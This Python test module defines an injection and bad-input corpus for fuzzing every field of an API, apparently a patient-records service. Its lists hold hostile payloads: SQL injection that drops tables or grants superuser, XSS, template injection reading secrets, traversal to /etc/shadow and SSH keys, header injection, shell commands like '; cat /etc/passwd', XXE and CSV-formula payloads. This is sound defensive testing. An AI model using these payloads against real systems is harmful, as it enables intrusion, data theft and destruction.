"""The injection and bad-input corpus of issue 26: payloads in classes, sent through every
text field, number field and query parameter of the API by
``tests/core/outside/test_bad_input_corpus.py``.

Every payload is a JSON value (a Python ``str``, ``int``, ``float``, ``bool``, ``list``,
``dict`` or ``None``): ``json.dumps`` writes a lone surrogate as its ``\\ud800`` escape, a
NaN or an infinity as the non-standard ``NaN``/``Infinity`` Python's parser reads, and an
integer of 400 digits as written. In a query a payload is sent as text, percent-encoded
byte for byte (a lone surrogate as the bytes ``surrogatepass`` gives).

The classes are chosen per field by ``sample``: one payload of each class that fits the
field's JSON type, drawn with a random generator seeded from the field's name, so that a
run repeats itself and the whole corpus is spread over the fields.
"""

from __future__ import annotations

import copy
import json
import random
import zlib
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote

SEED = 26  # issue 26

SQL = [
    "' OR 1=1--",
    "' OR '1'='1",
    '" OR ""="',
    "1;DROP TABLE patients_patient;--",
    "1; DROP TABLE accounts_user CASCADE",
    "admin'--",
    "' UNION SELECT username, password FROM accounts_user--",
    "%' AND 1=0 UNION ALL SELECT NULL, NULL--",
    "'; SELECT pg_sleep(10);--",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "') OR ('a'='a",
    "1)) OR ((1=1",
    "$$; DROP TABLE audit_auditevent; $$",
    "'; COPY (SELECT '') TO PROGRAM 'id';--",
    "1' AND SLEEP(5)#",
    "' OR 1=1 LIMIT 1 OFFSET 1--",
    "'||(SELECT current_user)||'",
    "\\'; TRUNCATE audit_auditevent;--",
    "1 OR 1=1",
    "'; UPDATE accounts_user SET is_superuser=true;--",
    "x' AND extractvalue(1,concat(0x7e,version()))--",
    "' OR ''='",
    "1' ORDER BY 99--",
    "' GROUP BY 1 HAVING 1=1--",
    "1; SELECT * FROM pg_shadow",
    "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "'; EXEC xp_cmdshell('dir');--",
    "1' RLIKE (SELECT 1)--",
    "\\x27 OR 1=1",
    "' OR 1=1/*",
    "'/**/OR/**/1=1--",
    "RSSMRA80A01H501U' OR 'x'='x",
]
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<<SCRIPT>alert(1)//<</SCRIPT>",
    '<img src="x" onerror="&#97;lert(1)">',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<details open ontoggle=alert(1)>",
    '<input value="" onfocus=alert(1) autofocus>',
    "`-alert(1)-`",
    "</script><script>alert(1)</script>",
    "<style>@import 'http://evil/x.css';</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "vbscript:msgbox(1)",
    "<link rel=stylesheet href=//evil.example/x.css>",
]
TEMPLATE = [
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "*{7*7}",
    "@(7*7)",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ csrf_token }}",
    "{% include '/etc/passwd' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "%(password)s",
    "{0.__class__}",
    "%s%s%s%s%n",
    "${jndi:ldap://evil/a}",
    "{{ config.items() }}",
    "{% now 'U' %}",
    "{% csrf_token %}",
    "{{ 7|add:7 }}",
    "{% for u in users %}{{ u.password }}{% endfor %}",
    "{% verbatim %}",
    "{% endblock %}",
    "#set($x=7*7)${x}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "[[${7*7}]]",
    "{{= 7*7 }}",
]
PATH = [
    "../../etc/passwd",
    "../../../../../../etc/shadow",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "/proc/self/environ",
    "..%c0%af..%c0%afetc/passwd",
    "var/../../config/settings.py",
    "../../../../../../../../../../etc/hosts",
    "..%5c..%5cwindows%5cwin.ini",
    "\\\\evil.example\\share\\x",
    "/dev/random",
    "~/.ssh/id_rsa",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "..;/..;/etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
]
CRLF = [
    "x\r\nSet-Cookie: pwned=1",
    "x\r\nLocation: http://evil.example/",
    "%0d%0aSet-Cookie:%20pwned=1",
    "x\nX-Injected: 1",
    "x\r\n\r\n<html>injected</html>",
    "a\u2028b\u2029c",
    "x\rY",
    "riga 1\nriga 2",
    "\u0085next line",
    "x\u000bvertical\u000cfeed",
    "x%0aX-Injected:%201",
    "\r\n\r\nHTTP/1.1 200 OK",
    "x\r\nContent-Length: 0\r\n\r\n",
    "a\tb\tc",
]
NUL = [
    "\x00",
    "abc\x00def",
    "\x00' OR 1=1--",
    "referto.pdf\x00.exe",
    "\x00\x00\x00\x00",
]
SURROGATE = [
    "\ud800",
    "a\udfffb",
    "\udc00\ud800",
    "\ud83d",
    "x\ud800y",
    "\udbff\udbff",
]
OTHER_TEXT = [
    "; cat /etc/passwd",
    "$(id)",
    "`id`",
    "| id",
    "*)(uid=*))(|(uid=*",
    '","admin":true,"x":"',
    "\\u0000",
    "\u202egnp.exe",
    "\u200b\u200d\ufeff",
    "e\u0301\u0301\u0301\u0301",
    "\U0001d54f\U0001f600",
    "\x1b[2J\x1b[31mROSSO",
    "\x07\x08\x7f",
    "",
    " ",
    "null",
    "undefined",
    "true",
    "-1",
    "0x7fffffff",
    "&& shutdown -h now",
    "\n/bin/sh",
    "admin)(&)",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+39 333 000 0000",
    "O'Brien-D'Alessandro",
    "Ñüñez Çelik Øster",
    "\u0130stanbul \u0131",
    "\ufb01 \ufb02 \u00df \u1e9e",
    "\U0001d510\U0001d51e\U0001d52f\U0001d526\U0001d52c",
    "مرحبا",
    "你好",
    "\U0001f9ea\U0001f489",
]
LONG = [
    "A" * 300,
    "è" * 2_001,
    "x" * 70_000,
    "A" * 151,
    "9" * 256,
    "a" * 1_000_000,
]
# Numbers a field may be sent: too large, too small, not a number at all.
OVERFLOW = [
    1e308,
    -1e308,
    int("9" * 400),
    -int("9" * 400),
    float("nan"),
    float("inf"),
    float("-inf"),
    2**63,
    -(2**63) - 1,
    2**31,
    -1,
    0,
    "1e308",
    "-1e308",
    "9" * 400,
    "NaN",
    "Infinity",
    "-Infinity",
    "1e-400",
    "0x10",
    "1_000",
    "١٢",
    1e-320,
    -0.0,
    123456789012345678901234567890.123,
    "1,5",
    "01",
    " 1 ",
    "+1",
    "1.",
    ".5",
    "1e2",
]
WRONG_TYPE: list[Any] = [
    [],
    {},
    True,
    False,
    None,
    ["x"],
    {"$gt": ""},
    [1, 2, 3],
    {"__proto__": {"admin": True}},
    [None],
    {"": ""},
    [[[]]],
    {"value": 1},
]

TEXT_CLASSES: dict[str, list[Any]] = {
    "sql": SQL,
    "xss": XSS,
    "template": TEMPLATE,
    "path": PATH,
    "crlf": CRLF,
    "nul": NUL,
    "surrogate": SURROGATE,
    "other": OTHER_TEXT,
    "long": LONG,
}
CLASSES: dict[str, list[Any]] = {**TEXT_CLASSES, "overflow": OVERFLOW, "wrong_type": WRONG_TYPE}

# The body of an operation as a whole: over the configured limit, and nested past any
# parser's recursion.
NESTING = 100_000


def corpus_size() -> int:
    return sum(len(v) for v in CLASSES.values()) + 2  # + huge body, deep nesting


def _rng(*key: str) -> random.Random:
    return random.Random(SEED * 1_000_003 + zlib.crc32("|".join(key).encode()))


def sample(kind: str, *key: str) -> list[tuple[str, Any]]:
    """The payloads sent to one field of JSON type ``kind`` (or a query parameter):
    (class, payload), one per class that fits, the choice seeded by ``key``."""
    rng = _rng(*key)
    chosen: list[tuple[str, Any]] = []
    if kind in ("string", "query"):
        for name, payloads in TEXT_CLASSES.items():
            chosen.append((name, rng.choice(payloads)))
        chosen.append(("overflow", str(rng.choice(OVERFLOW))))
    elif kind in ("number", "integer"):
        for payload in rng.sample(OVERFLOW, 3):
            chosen.append(("overflow", payload))
        text = rng.choice(list(TEXT_CLASSES))
        chosen.append((text, rng.choice(TEXT_CLASSES[text])))
    if kind != "query":
        chosen.append(("wrong_type", rng.choice(WRONG_TYPE)))
    return chosen


def query_string(query: Mapping[str, Any]) -> str:
    """``k=v&…`` with every value percent-encoded byte for byte (a lone surrogate too)."""
    return "&".join(
        f"{quote(str(k), safe='')}={quote(str(v), safe='', errors='surrogatepass')}"
        for k, v in query.items()
    )


def path_segment(payload: Any) -> str:
    """A payload as one segment of an address, percent-encoded byte for byte."""
    return quote(str(payload), safe="", errors="surrogatepass")


def json_body(body: Any) -> str:
    """The body as a client sends it (``NaN``, ``Infinity``, ``\\ud800`` escapes kept)."""
    return json.dumps(body)


def nested_body(field: str) -> str:
    """``{"field": [[[…]]]}``, ``NESTING`` deep."""
    return '{"' + field + '": ' + "[" * NESTING + "]" * NESTING + "}"


def huge_body(field: str, size: int) -> str:
    """``{"field": "AAAA…"}`` of ``size`` bytes and more."""
    return json.dumps({field: "A" * size})


class _Missing:
    def __repr__(self) -> str:  # the parametrised test's id
        return "<missing>"


MISSING = _Missing()  # ``body_with``'s value: the key is removed


def body_with(body: Mapping[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A deep copy of the JSON ``body`` with ``value`` at the dotted ``path`` (a number
    indexes a list: ``"components.3.code"``); ``MISSING`` removes the key."""
    changed = copy.deepcopy(dict(body))
    target: Any = changed
    keys = path.split(".")
    for key in keys[:-1]:
        target = target[int(key)] if key.isdigit() else target[key]
    last = keys[-1]
    if value is MISSING:
        del target[last]
    else:
        target[int(last) if last.isdigit() else last] = value
    return changed
